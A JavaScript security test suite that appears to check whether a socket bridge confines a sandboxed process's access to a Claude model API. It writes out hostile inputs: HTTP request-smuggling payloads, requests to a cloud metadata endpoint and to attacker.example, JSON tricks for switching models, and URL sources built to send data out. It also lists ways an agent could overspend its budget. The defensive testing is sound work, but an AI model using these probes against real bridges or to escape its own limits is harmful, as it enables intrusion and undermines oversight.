// The way to the model: what it answers to whom.
import { request } from 'node:http';
import { connect } from 'node:net';
import { gzipSync } from 'node:zlib';
import { attack, broken, every, held, ownToken, say, told } from './attack.mjs';

const socketPath = '/run/remuda/model.sock';
const token = ownToken();

/** A request over the bridge's socket; status and body of the answer. */
function ask({ method = 'POST', path = '/v1/messages', headers = {}, body = turn('x'), text: bytes }) {
  return new Promise((resolve, reject) => {
    const sent = request({ socketPath, method, path, headers: { 'content-type': 'application/json', ...headers } });
    sent.once('error', reject).once('response', async (response) => {
      let text = '';
      for await (const chunk of response) text += chunk;
      resolve({ status: response.statusCode, text, headers: response.headers });
    });
    sent.once('connect', (response) => resolve({ status: response.statusCode, text: 'CONNECT' }));
    sent.once('upgrade', (response) => resolve({ status: response.statusCode, text: 'upgraded' }));
    sent.setTimeout(5_000, () => sent.destroy(Object.assign(new Error('no answer'), { code: 'TIMEOUT' })));
    sent.end(method === 'POST' ? (bytes ?? JSON.stringify(body)) : undefined);
  });
}

const turn = (text, more = {}) => ({
  model: 'claude-sonnet-4-5',
  max_tokens: 8,
  tools: [{ name: 'x' }],
  messages: [{ role: 'user', content: text }],
  ...more,
});
const mine = { 'x-remuda-token': token };

/** What came back where a refusal was due: undefined for a refusal. */
async function answered(what) {
  const { status, text } = await ask(what);
  if (status >= 400) throw Object.assign(new Error(text), { code: String(status) });
  return `${status} ${text.slice(0, 60)}`;
}

/** Bytes as they are over the socket; the first line of what comes back. */
const raw = (bytes) =>
  new Promise((resolve, reject) => {
    const socket = connect(socketPath, () => socket.write(bytes));
    let text = '';
    socket
      .setTimeout(3_000, () => socket.destroy())
      .on('data', (chunk) => (text += chunk))
      .on('error', reject)
      .on('close', () => resolve(text));
  });

if (told.part === 'live') {
  const { status, text } = await ask({ headers: mine, body: turn('SCRIPT:[{"text":"control"}]') });
  say(
    'control.bridge',
    status === 200 && text.includes('control') ? held('its own token is good') : broken(`${status} ${text}`),
  );
  console.log(`##${JSON.stringify({ token })}`);
}

if (told.part === 'live') {
  await every('bridge.no_token', {
    none: () => answered({}),
    empty: () => answered({ headers: { 'x-remuda-token': '' } }),
    guessed: () => answered({ headers: { 'x-remuda-token': 'a'.repeat(43) } }),
    wildcard: () => answered({ headers: { 'x-remuda-token': '*' } }),
    hash: () => answered({ headers: { authorization: `Bearer ${'0'.repeat(64)}` } }),
  });
  await every('bridge.idle_token', {
    bearer: () => answered({ headers: { authorization: 'Bearer remuda-idle' } }),
    header: () => answered({ headers: { 'x-remuda-token': 'remuda-idle' } }),
  });
  const paths = [
    ...[
      'GET /v1/models',
      'POST /v1/files',
      'GET /v1/files',
      'POST /v1/messages/batches',
      'GET /v1/organizations/me',
      'POST /v1/complete',
    ],
    ...[
      'POST /v1/messages/../models',
      'POST //v1/messages',
      'POST /v1/messages/',
      'POST /v1/messages%2f..%2fmodels',
      'POST /V1/messages',
    ],
    ...[
      'DELETE /v1/messages',
      'PUT /v1/messages',
      'GET /',
      'POST /v1/messages;x',
      'POST /v1/messages#x',
      'TRACE /v1/messages',
    ],
  ];
  await every(
    'bridge.other_path',
    Object.fromEntries(
      paths.map((one) => [one, () => answered({ method: one.split(' ')[0], path: one.split(' ')[1], headers: mine })]),
    ),
  );
  await every('bridge.other_host', {
    absolute: () => answered({ path: 'http://attacker.example/v1/messages', headers: mine }),
    metadata: () => answered({ path: 'http://169.254.169.254/latest/meta-data', method: 'GET', headers: mine }),
    connect: () => answered({ method: 'CONNECT', path: 'attacker.example:443', headers: mine }),
    upgrade: () => answered({ method: 'GET', headers: { ...mine, connection: 'upgrade', upgrade: 'websocket' } }),
  });
  // the test looks at what arrived at the model
  await ask({
    headers: { ...mine, host: 'attacker.example', 'x-forwarded-host': 'attacker.example' },
    body: turn('SCRIPT:[{"text":"host"}]'),
  });
  await ask({
    headers: {
      ...mine,
      'x-api-key': 'sk-ant-other-account',
      authorization: 'Bearer sk-ant-oat-other',
      'proxy-authorization': 'x',
      cookie: 'sessionKey=x',
    },
    body: turn('SCRIPT:[{"text":"other account"}]'),
  });
  await every('bridge.admin', {
    metrics: () => answered({ method: 'GET', path: '/metrics', headers: mine }),
    health: () => answered({ method: 'GET', path: '/health/ready', headers: mine }),
  });
  await attack('bridge.smuggling', async () => {
    const hidden = `POST /v1/files HTTP/1.1\r\nhost: x\r\nx-remuda-token: ${token}\r\ncontent-length: 2\r\n\r\n{}`;
    const both = `POST /v1/messages HTTP/1.1\r\nhost: x\r\nx-remuda-token: ${token}\r\ncontent-type: application/json\r\ncontent-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n${hidden}`;
    const bare = `POST /v1/messages HTTP/1.1\r\nhost: x\r\nx-remuda-token: ${token}\r\ntransfer-encoding: xchunked\r\n\r\n0\r\n\r\n${hidden}`;
    const answers = [await raw(both), await raw(bare)].map((text) => text.split('\r\n')[0]);
    const through = (told.smuggled ?? []).length;
    return { held: through === 0 && answers.every((line) => !/ 2\d\d /.test(line)), evidence: answers.join(' / ') };
  });
  const dear = JSON.stringify(turn('SCRIPT:[{"text":"dear"}]', { model: 'claude-opus-4-1' }));
  const allowed = '"model":"claude-sonnet-4-5"';
  await every('bridge.other_model', {
    other: () => answered({ headers: mine, text: dear }),
    newer: () => answered({ headers: mine, body: turn('x', { model: 'claude-opus-4-8' }) }),
    two_families: () => answered({ headers: mine, body: turn('x', { model: 'claude-opus-haiku' }) }),
    twice: () => answered({ headers: mine, text: `{${allowed},${dear.slice(1)}` }),
    escaped: () => answered({ headers: mine, text: `{${allowed},${dear.slice(1).replace('model', 'mod\\u0065l')}` }),
    capitals: () => answered({ headers: mine, text: `{${allowed},${dear.slice(1).replace('model', 'Model')}` }),
    late: () => answered({ headers: mine, text: `{${allowed},"x":"${'y'.repeat(500_000)}",${dear.slice(1)}` }),
    behind: () => answered({ headers: mine, text: `{${allowed}}${dear}` }),
    packed: () => answered({ headers: { ...mine, 'content-encoding': 'gzip' }, text: gzipSync(dear) }),
    wide: () => answered({ headers: mine, text: Buffer.from(dear, 'utf16le') }),
  });
  const out = { type: 'url', url: 'http://attacker.example/?bytes' };
  const picture = { type: 'image', source: out };
  const said = (...content) => ({ messages: [{ role: 'user', content }] });
  const result = (...content) => said({ type: 'tool_result', tool_use_id: 't', content });
  const each = (ways) => {
    const both = Object.entries(ways).flatMap(([name, more]) => [
      [name, () => answered({ headers: mine, body: turn('x', more) })],
      [`${name}, counted`, () => answered({ headers: mine, path: '/v1/messages/count_tokens', body: turn('x', more) })],
    ]);
    return Object.fromEntries(both);
  };
  await every(
    'bridge.server_tools',
    each({
      search: { tools: [{ type: 'web_search_20250305', name: 'web_search' }] },
      fetch: { tools: [{ type: 'web_fetch_20260209', name: 'web_fetch' }] },
      code: { tools: [{ type: 'code_execution_20260120', name: 'code_execution' }] },
      advisor: { tools: [{ type: 'advisor_20260301', name: 'advisor', model: 'claude-opus-4-1' }] },
      mcp: { mcp_servers: [{ ...out, name: 'x' }], tools: [{ type: 'mcp_toolset', mcp_server_name: 'x' }] },
      servers: { mcp_servers: [{ ...out, name: 'x' }] },
      unheard: { tools: [{ type: 'teleport_20270101', name: 'x' }] },
      listed: { tools: [{ type: ['web_fetch_20260209'], name: 'x' }] },
      later: said({
        type: 'tool_addition',
        tool: { type: 'tool_definition', definition: { type: 'web_fetch_20260209' } },
      }),
      going_on: said({ type: 'server_tool_use', id: 's', name: 'web_fetch', input: { url: out.url } }),
    }),
  );
  await every(
    'bridge.url_sources',
    each({
      image: said(picture),
      document: said({ type: 'document', source: out }),
      file: said({ type: 'document', source: { type: 'file', file_id: 'file_1' } }),
      upload: said({ type: 'container_upload', file_id: 'file_1' }),
      in_result: result(picture),
      in_document: result({ type: 'document', source: { type: 'content', content: [picture] } }),
      in_system: { system: [{ type: 'document', source: out }] },
      in_one_block: { messages: [{ role: 'user', content: picture }] },
      in_unknown: said({ type: 'text', text: 'x', attachments: [picture] }),
      unheard: said({ type: 'image', source: { type: 's3', uri: 'x' } }),
    }),
  );
  await every('bridge.unknown_fields', {
    ...each({
      container: { container: 'container_1' },
      place: { inference_geo: 'eu' },
      tier: { service_tier: 'priority' },
      any_fallback: { fallbacks: 'default' },
      thread: { thread: { type: 'new' } },
      unheard: { teleport: true },
      capitals: { MCP_servers: [] },
    }),
    // counting tokens costs nothing, whatever the model
    fallbacks: () => answered({ headers: mine, body: turn('x', { fallbacks: [{ model: 'claude-opus-4-1' }] }) }),
  });
  await every('bridge.query', {
    other: () => answered({ headers: mine, path: '/v1/messages?beta=true&mcp_servers=x' }),
    betas: () => answered({ headers: mine, path: '/v1/messages?betas=mcp-client-2025-11-20' }),
  });
  // the test looks at what arrived at the model
  await ask({
    headers: {
      ...mine,
      'anthropic-beta': 'mcp-client-2025-11-20,effort-2025-11-24,files-api-2025-04-14,teleport-2027-01-01',
      'anthropic-organization-id': 'x',
      'anthropic-workspace-id': 'x',
      'x-anything': 'x',
    },
    body: turn('SCRIPT:[{"text":"own headers"}]'),
  });
  await every('bridge.many_values', {
    wide: () => answered({ headers: mine, text: `{${allowed},"messages":[${'[],'.repeat(8_000_000)}[]]}` }),
    deep: () => answered({ headers: mine, text: `{${allowed},"messages":${'['.repeat(5e6)}${']'.repeat(5e6)}}` }),
  });
  await attack('bridge.large_body', async () => {
    const { status } = await ask({
      headers: { ...mine, 'content-length': String(33 * 1024 * 1024) },
      body: turn('x'),
    }).catch((error) => ({ status: error.code }));
    return status === 413 ? held('413') : broken(String(status));
  });
}

if (told.part === 'budget')
  await attack('bridge.budget_at_once', async () => {
    const body = turn('SCRIPT:[{"text":"x","delayMs":300,"usage":{"output_tokens":64000}}]', { max_tokens: 64_000 });
    const answers = await Promise.all(Array.from({ length: 10 }, () => ask({ headers: mine, body })));
    const paid = answers.filter(({ status }) => status === 200).length;
    return paid <= 1
      ? held(`${paid} of 10 at once were answered`)
      : broken(`${paid} of 10 at once were answered, each far above the budget`);
  });

if (told.part === 'ended') {
  await every('bridge.ended_token', {
    header: () => answered({ headers: { 'x-remuda-token': told.ended } }),
    key: () => answered({ headers: { 'x-api-key': told.ended } }),
    bearer: () => answered({ headers: { authorization: `Bearer ${told.ended}` } }),
  });
}
